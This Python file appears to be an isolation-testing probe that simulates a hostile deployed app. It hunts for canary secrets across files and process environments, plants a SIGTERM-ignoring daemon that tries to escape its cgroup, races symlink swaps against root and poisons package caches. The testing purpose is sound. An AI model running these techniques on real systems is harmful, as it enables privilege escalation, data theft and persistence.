"""What the hostile app alpha does wherever its code runs: looks around, tries everything, reports what it could do.

`python3 probe.py PLACE` from a hook; imported by the build backend, by a .pth file in its environment, and by the app.
"""

import contextlib
import fcntl
import glob
import json
import os
import signal
import socket
import subprocess
import sys
import time
import urllib.request

SERVER = "http://127.0.0.1:8098/report"
# Of beta and of root; in halves, or this file itself would be one that holds them.
SECRETS = [f"{name}-canary" for name in ("beta-env", "beta-token", "beta-build", "beta-code", "root-secret")]
LOOK_IN = (
    "/srv/beta",
    "/etc",
    "/run",
    "/opt",
    "/root",
    "/home",
    "/var/log",
    "/var/cache",
    "/var/lib",
    "/var/tmp",
    "/tmp",
    "/dev/shm",
)
MAY_NOT_WRITE = (
    "/etc/cron.d",
    "/etc/systemd/system",
    "/opt/victim",
    "/opt/fastapi",
    "/opt/fastapi/uv-*/bin",
    "/usr/local/bin",
    "/usr/local/lib/fastapi",
    "/usr/lib/python3*/__pycache__",
    "/srv",
    "/srv/beta",
    "/srv/beta/shared",
    "/srv/beta/shared/uploads",
    "/srv/beta/releases/*",
    "/srv/beta/releases/*/src",
    "/srv/beta/venvs/*",
    "/srv/alpha",
    "/srv/alpha/releases",
    "/srv/alpha/venvs",
    "/var/cache",
    "/var/cache/beta",
    "/run",
    "/run/beta",
    "/run/systemd/system",
    "/run/lock",
    "/var/lib/fastapi",
    "/var/log/nginx",
    "/var/spool/cron",
    "/var/spool/cron/crontabs",
    "/sys/fs/cgroup",
    "/sys/fs/cgroup/system.slice",
)


def report(place, **facts):
    body = json.dumps({"place": place, **facts}).encode()
    request = urllib.request.Request(SERVER, body, {"Content-Type": "application/json"})
    with contextlib.suppress(OSError):
        urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=5).read()


def identity():
    with open("/proc/self/status", encoding="ascii") as stream:
        status = dict(line.rstrip("\n").split(":\t", 1) for line in stream if ":\t" in line)
    with open("/proc/self/cgroup", encoding="ascii") as stream:
        cgroup = stream.read().strip().splitlines()[-1]
    return {
        "uid": os.getuid(),
        "gid": os.getgid(),
        "groups": os.getgroups(),
        "pid": os.getpid(),
        "cgroup": cgroup,
        "capabilities": int(status["CapEff"], 16),
        "no_new_privileges": status["NoNewPrivs"] == "1",
        "env": dict(os.environ),
    }


# Each gives the evidence of what it could do; nothing where it was stopped.


def writes_elsewhere():
    done = []
    for pattern in MAY_NOT_WRITE:
        for directory in glob.glob(pattern):
            path = os.path.join(directory, "by-alpha")
            try:
                os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666))
            except OSError:
                continue
            done.append(path)
            with contextlib.suppress(OSError):
                os.unlink(path)
    return done


def reads_secrets():
    """Files of others in which a secret is, and environments and command lines of processes."""
    done = []

    def look(path):
        try:
            if os.path.getsize(path) > 4 << 20:
                return
            descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            with open(descriptor, "rb") as stream:
                content = stream.read(4 << 20) or b""
        except (OSError, ValueError):
            return
        done.extend(f"{secret} in {path}" for secret in SECRETS if secret.encode() in content)

    for top in LOOK_IN:
        for directory, _names, files in os.walk(top):
            for name in files:
                path = os.path.join(directory, name)
                if os.path.isfile(path) and not os.path.islink(path):
                    look(path)
    for process in glob.glob("/proc/[0-9]*"):
        for name in ("environ", "cmdline"):
            look(f"{process}/{name}")
    return done


def lists_others():
    """Directories of beta beside those that only hold names of releases."""
    done = []
    for pattern in ("shared", "build", "repository.git", "venvs/*", "releases/*", "releases/*/src"):
        for path in glob.glob(f"/srv/beta/{pattern}"):
            with contextlib.suppress(OSError):
                done += [path] if os.listdir(path) else []
    return done


def signals_others():
    done = []
    for path in glob.glob("/proc/[0-9]*"):
        try:
            if os.stat(path).st_uid == os.getuid():
                continue  # its own, such as those of the release before
            os.kill(int(path[6:]), 0)
            with open(path + "/cmdline", "rb") as stream:
                done.append(f"{path}: {stream.read(120)!r}")
        except (OSError, ValueError):
            pass
    return done


def commands_systemd():
    done = []
    for command in (
        ["systemctl", "stop", "fastapi-resources.service"],
        ["systemd-run", "--quiet", "true"],
        ["systemd-run", "--user", "--quiet", "true"],
        ["loginctl", "enable-linger"],
        ["sudo", "-n", "true"],
        ["crontab", "-l"],
        ["journalctl", "-q", "-n", "1", "-u", "nginx"],
    ):
        try:
            result = subprocess.run(command, capture_output=True, timeout=5, check=False, stdin=subprocess.DEVNULL)
        except (OSError, subprocess.SubprocessError):
            continue
        if result.returncode == 0 and (command[0] != "journalctl" or result.stdout):
            done.append(" ".join(command))
    return done


def reaches_sockets():
    done = []
    for path in [*glob.glob("/run/beta/*.sock"), "/srv/beta/live.sock"]:
        try:
            with socket.socket(socket.AF_UNIX) as client:
                client.settimeout(2)
                client.connect(path)
                done.append(path)
        except OSError:
            pass
    return done


def reaches_local_services():
    """The ports of exporters, nginx' status, Prometheus and Alertmanager."""
    done = []
    for port in (3000, 4040, 8099, 9090, 9093, 9100, 9102, 9113):
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=2):
                done.append(f"127.0.0.1:{port}")
        except OSError:
            pass
    return done


def locks_others():
    done = []
    for path in (
        "/srv/beta/.lock",
        "/srv/alpha/.lock",
        *glob.glob("/run/lock/**", recursive=True),
        "/run/fastapi-lock",
        "/var/lib/fastapi/.lock",
        "/run/nginx.lock",
    ):
        try:
            descriptor = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        try:
            if os.path.isfile(path):
                fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
                done.append(path)
        except BlockingIOError:
            done.append(path)  # somebody has it: it can be waited for
        except OSError:
            pass
        finally:
            os.close(descriptor)
    return done


def links_others():
    """Hard links to files of others, which a change of owner or mode would then reach."""
    done = []
    for source in (
        "/opt/victim/readable",
        "/opt/victim/secret",
        "/etc/passwd",
        "/srv/beta/.lock",
        *glob.glob("/srv/beta/releases/*/env"),
    ):
        for directory in (".", os.environ.get("HOME", "."), "/srv/alpha/shared/uploads"):
            target = os.path.join(directory, "hard-link")
            try:
                os.link(source, target)
                done.append(f"{source} as {target}")
                os.unlink(target)
            except OSError:
                pass
    return done


ATTEMPTS = (
    writes_elsewhere,
    reads_secrets,
    lists_others,
    signals_others,
    commands_systemd,
    reaches_sockets,
    reaches_local_services,
    locks_others,
    links_others,
)


def leave_files(place):
    """In directories for everybody, for whoever comes next."""
    for directory in ("/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run/lock"):
        try:
            with open(f"{directory}/left-by-alpha-{place}", "w", encoding="ascii") as stream:
                stream.write("x")
        except OSError:
            pass


def attack(place):
    """Try everything. The report has only what was possible."""
    could = {}
    leave_files(place)
    for attempt in ATTEMPTS:
        if attempt is reads_secrets and place not in ("build", "migrate", "start"):
            continue  # it takes a second
        try:
            found = attempt()
        except Exception as exc:
            found = [f"{type(exc).__name__}: {exc}"] if not isinstance(exc, OSError) else []
        if found:
            could[attempt.__name__] = found[:20]
    report(place, could=could, **identity())


def daemon(place, work=lambda: None, seconds=90):
    """A process that wants to outlive what started it: forked twice, in a session of its own, deaf to SIGTERM."""
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    null = os.open(os.devnull, os.O_RDWR)
    for number in range(3):
        os.dup2(null, number)
    for group in (*glob.glob("/sys/fs/cgroup/*/cgroup.procs"), "/sys/fs/cgroup/cgroup.procs"):
        try:
            with open(group, "w", encoding="ascii") as stream:
                stream.write(str(os.getpid()))
        except OSError:
            pass
    end = time.monotonic() + seconds
    told = 0
    while time.monotonic() < end:
        with contextlib.suppress(Exception):
            work()
        time.sleep(0.02)
        if time.monotonic() > told + 0.5:
            told = time.monotonic()
            report("alive", of=place, uid=os.getuid(), pid=os.getpid())
    os._exit(0)


def swap():
    """Replace directories of the next release by links to what is root's, while root walks it."""
    for directory in glob.glob("/srv/alpha/releases/*/src/swap/*") + glob.glob("/srv/alpha/releases/*/src/app"):
        if os.path.islink(directory) or time.time() - os.stat(directory).st_ctime > 20:
            continue
        os.rename(directory, directory + ".was")
        os.symlink("/opt/victim/tree", directory)


def poison():
    """Change, in all caches, what was unpacked of a package that uv.lock or requirements.txt name with a hash."""
    for top in {
        os.environ.get("UV_CACHE_DIR", ""),
        os.environ.get("HOME", ""),
        "/var/cache/alpha",
        "/opt/fastapi/cache",
        "/var/cache/beta",
    }:
        for path in glob.glob(f"{top}/**/victimlib.py", recursive=True) if top else []:
            try:
                os.chmod(path, 0o644)
                with open(path, "a", encoding="utf-8") as stream:
                    stream.write("POISONED = True\n")
            except OSError:
                pass


def build(place):
    attack(place)
    poison()
    daemon(place, *[swap] if place == "build" else [])


if __name__ == "__main__":
    place = sys.argv[1]
    (build if place.startswith("build") else attack)(place)
    if not place.startswith("build"):
        daemon(place)
